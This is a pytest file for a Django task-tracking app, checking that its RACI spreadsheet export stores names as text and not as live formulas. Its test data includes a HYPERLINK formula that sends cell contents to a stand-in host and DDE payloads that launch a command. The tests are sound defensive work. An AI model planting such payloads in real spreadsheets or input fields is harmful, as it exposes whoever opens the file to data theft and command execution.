"""The RACI export (form 1) writes names people typed as text, never as live formulas."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from accounts.models import Role
from tasks import services
from tasks.imports import import_tasks
from tasks.models import Task
from tests.factories import CampaignFactory, TaskFactory

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
EVIL_TASKS = ["=cmd|' /C calc'!A0", "\t=1+1", "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3"]


def _export(client, campaign):
    response = client.get(reverse("tasks:tasks_export", args=[campaign.pk]))
    assert response.status_code == 200
    return response.content


def test_a_name_set_through_the_api_is_written_as_text_in_the_managers_export(make_user, manager, client):
    staff = make_user(Role.STAFF, username="mallory")
    api = APIClient()
    api.force_authenticate(staff)
    assert api.patch(reverse("api:me"), {"name": EVIL_NAME}, format="json").status_code == 200
    campaign = CampaignFactory(owner=manager)
    services.stages_ensure_defaults(campaign=campaign)
    TaskFactory(campaign=campaign, stage=campaign.stages.first(), responsible=staff, accountable=manager)
    client.force_login(manager)

    sheet = load_workbook(io.BytesIO(_export(client, campaign))).worksheets[0]

    responsible = sheet.cell(row=2, column=4)
    assert responsible.value == EVIL_NAME
    assert responsible.data_type == "s"
    assert responsible.quotePrefix


def test_task_names_starting_with_formula_characters_are_text_and_import_back_unchanged(manager, client):
    campaign = CampaignFactory(owner=manager)
    services.stages_ensure_defaults(campaign=campaign)
    for name in EVIL_TASKS:
        TaskFactory(
            campaign=campaign, stage=campaign.stages.first(), name=name, responsible=manager, accountable=manager
        )
    client.force_login(manager)
    content = _export(client, campaign)

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = {sheet.cell(row=row, column=1).value: sheet.cell(row=row, column=1) for row in range(2, sheet.max_row + 1)}
    assert sorted(cells) == sorted(EVIL_TASKS)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells.values())

    other = CampaignFactory(owner=manager)
    result = import_tasks(file=_upload(content), campaign=other, user=manager)
    assert result.ok, result.errors
    assert sorted(Task.objects.filter(campaign=other).values_list("name", flat=True)) == sorted(
        name.strip() for name in EVIL_TASKS
    )


def _upload(content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("tasks.xlsx", content)
